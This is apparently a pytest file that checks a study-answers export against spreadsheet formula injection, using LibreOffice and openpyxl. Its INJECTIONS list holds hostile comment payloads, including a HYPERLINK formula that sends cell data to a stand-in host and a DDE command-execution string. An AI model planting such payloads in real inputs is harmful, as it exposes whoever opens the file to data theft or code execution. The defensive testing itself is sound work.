"""The study's answers export opened by a real spreadsheet: LibreOffice Calc (Debian's
``libreoffice-calc-nogui``, installed by ``.ci/run``) imports ``answers.csv`` with ``,``, ``;``
and Tab as the separator, and not one cell of a bank of formula-injection comments becomes a
formula. Without LibreOffice these tests skip, unless ``DIALOGUE_GYM_REQUIRE_SPREADSHEET=1``
(set by CI), where they fail."""

from __future__ import annotations

import csv
import os
import shutil
import sqlite3
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from dialogue_gym.study.export import csv_safe, export_study
from dialogue_gym.study.store import StudyConfig, StudyStore

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
REQUIRED = os.environ.get("DIALOGUE_GYM_REQUIRE_SPREADSHEET") == "1"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"

# Comments a participant could type to run something in whoever opens the export.
INJECTIONS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=2*21",
    "+2*21",
    "-2*21",
    "@SUM(1,2)",
    "fine;=2*21",
    "fine,=2*21",
    "fine\t=2*21",
    "fine; =2*21",
    "line one\n=3*14",
    "line one\r\n+3*14",
    "line one\r-3*14",
    "ok\n@SUM(3,4)",
    '"quoted";=5*5',
    'a","=6*6',
    "\t=7*7",
    "\r=8*8",
    "x;y;z;=9*9;w",
    "=cmd|' /C calc'!A0",
    'before "=1+1" after;=10*10',
]


def _require_soffice() -> str:
    if SOFFICE is None:
        if REQUIRED:
            pytest.fail("LibreOffice is missing and DIALOGUE_GYM_REQUIRE_SPREADSHEET=1")
        pytest.skip("LibreOffice (soffice) is not installed")
    return SOFFICE


def _store_with_comments(path: Path, comments: list[str]) -> StudyStore:
    """A study whose participants answered with ``comments`` (two conversations each)."""
    store = StudyStore(path, StudyConfig("Persuasion-v0", ("scripted", "random"), 1))
    for i in range(0, len(comments), 2):
        _, p = store.add_participant(lambda seed: {"seed": seed})
        store.consent(p.id, [[0, 1]])
        for pos, comment in enumerate(comments[i : i + 2]):
            store.add_message(p.id, pos, 0, "assistant", "Hello")
            store.save_answer(p.id, pos, 0.5, {"persuasive": 3}, comment)
    return store


def _formula_cells(soffice: str, csv_path: Path, separator: str, out: Path) -> list[str]:
    """Open ``csv_path`` in LibreOffice with ``separator`` (UTF-8, ``"`` as text delimiter) and
    return the formulas of the cells it made."""
    code = {",": 44, ";": 59, "\t": 9}[separator]
    out.mkdir()
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{out / 'profile'}",
            "--headless",
            f"--infilter=CSV:{code},34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            str(csv_path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    tree = ET.parse(out / (csv_path.stem + ".fods"))
    cells = tree.iter(f"{{{TABLE}}}table-cell")
    return [c.get(f"{{{TABLE}}}formula") for c in cells if c.get(f"{{{TABLE}}}formula")]


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_no_comment_becomes_a_formula_in_libreoffice(tmp_path, separator):
    soffice = _require_soffice()
    store = _store_with_comments(tmp_path / "study.sqlite", INJECTIONS)
    export_study(store, tmp_path / "exp")
    formulas = _formula_cells(soffice, tmp_path / "exp" / "answers.csv", separator, tmp_path / "o")
    assert formulas == []
    # the check can fail: the same comments as Python's csv module writes them, unmarked, make
    # 3 (","), 6 (";") and 4 (Tab) formulas
    raw = tmp_path / "raw.csv"
    with raw.open("w", newline="") as f:
        csv.writer(f).writerows(["1", c] for c in INJECTIONS)
    assert len(_formula_cells(soffice, raw, separator, tmp_path / "r")) >= 3


def test_csv_safe_marks_every_piece_that_could_start_a_formula():
    assert csv_safe("fine;=2*21") == "fine;'=2*21"
    assert csv_safe("line one\n=3*14") == "line one\n'=3*14"
    assert csv_safe("=1") == "'=1" and csv_safe("-5") == "'-5"
    assert csv_safe("a, @SUM(A1)") == "a, '@SUM(A1)"
    assert csv_safe("e-mail me at a@b.example; thanks") == "e-mail me at a@b.example; thanks"
    assert csv_safe(3) == 3


def test_every_csv_field_is_quoted(tmp_path):
    store = _store_with_comments(tmp_path / "study.sqlite", ["plain", "also plain"])
    export_study(store, tmp_path / "exp")
    lines = (tmp_path / "exp" / "answers.csv").read_text().splitlines()
    assert len(lines) == 3
    for line in lines:
        assert line.startswith('"') and line.endswith('"') and '","' in line


def test_xlsx_export_holds_every_cell_as_text(tmp_path):
    from openpyxl import load_workbook

    store = _store_with_comments(tmp_path / "study.sqlite", INJECTIONS)
    out = export_study(store, tmp_path / "exp", "xlsx")
    assert out["answers_file"].endswith("answers.xlsx")
    sheet = load_workbook(tmp_path / "exp" / "answers.xlsx").active
    rows = list(sheet.iter_rows())
    assert len(rows) == len(INJECTIONS) + 1
    assert all(cell.data_type == "s" for row in rows for cell in row if cell.value is not None)
    comments = [c.value for c in next(sheet.iter_cols(min_col=sheet.max_column))][1:]
    # exact text, but for XML's line ends (CR and CRLF read back as LF)
    assert comments == [c.replace("\r\n", "\n").replace("\r", "\n") for c in INJECTIONS]


def test_xlsx_export_opens_without_formulas_in_libreoffice(tmp_path):
    soffice = _require_soffice()
    store = _store_with_comments(tmp_path / "study.sqlite", INJECTIONS)
    export_study(store, tmp_path / "exp", "xlsx")
    out = tmp_path / "o"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{out / 'profile'}",
            "--headless",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            str(tmp_path / "exp" / "answers.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    cells = ET.parse(out / "answers.fods").iter(f"{{{TABLE}}}table-cell")
    assert not [c for c in cells if c.get(f"{{{TABLE}}}formula")]


def test_exports_and_the_database_are_readable_by_their_owner_only(tmp_path):
    db = tmp_path / "study.sqlite"
    old = os.umask(0o022)
    try:
        store = _store_with_comments(db, ["a", "b"])
        for fmt in ("csv", "xlsx"):
            export_study(store, tmp_path / fmt, fmt)
        reader = sqlite3.connect(db)  # the -wal and -shm files exist while a connection is open
        reader.execute("SELECT COUNT(*) FROM answers").fetchone()
        files = [db, db.with_name("study.sqlite-wal"), db.with_name("study.sqlite-shm")]
        files += [tmp_path / "csv" / "answers.csv", tmp_path / "csv" / "episodes.jsonl"]
        files += [tmp_path / "xlsx" / "answers.xlsx", tmp_path / "xlsx" / "episodes.jsonl"]
        for path in files:
            assert path.exists() and path.stat().st_mode & 0o777 == 0o600, path
        reader.close()
    finally:
        os.umask(old)


def test_xlsx_export_survives_control_characters(tmp_path):
    from openpyxl import load_workbook

    store = _store_with_comments(tmp_path / "study.sqlite", ["bell\x07 and escape\x1b[31m", "ok"])
    export_study(store, tmp_path / "exp", "xlsx")
    sheet = load_workbook(tmp_path / "exp" / "answers.xlsx").active
    assert sheet.cell(row=2, column=sheet.max_column).value == "bell\ufffd and escape\ufffd[31m"
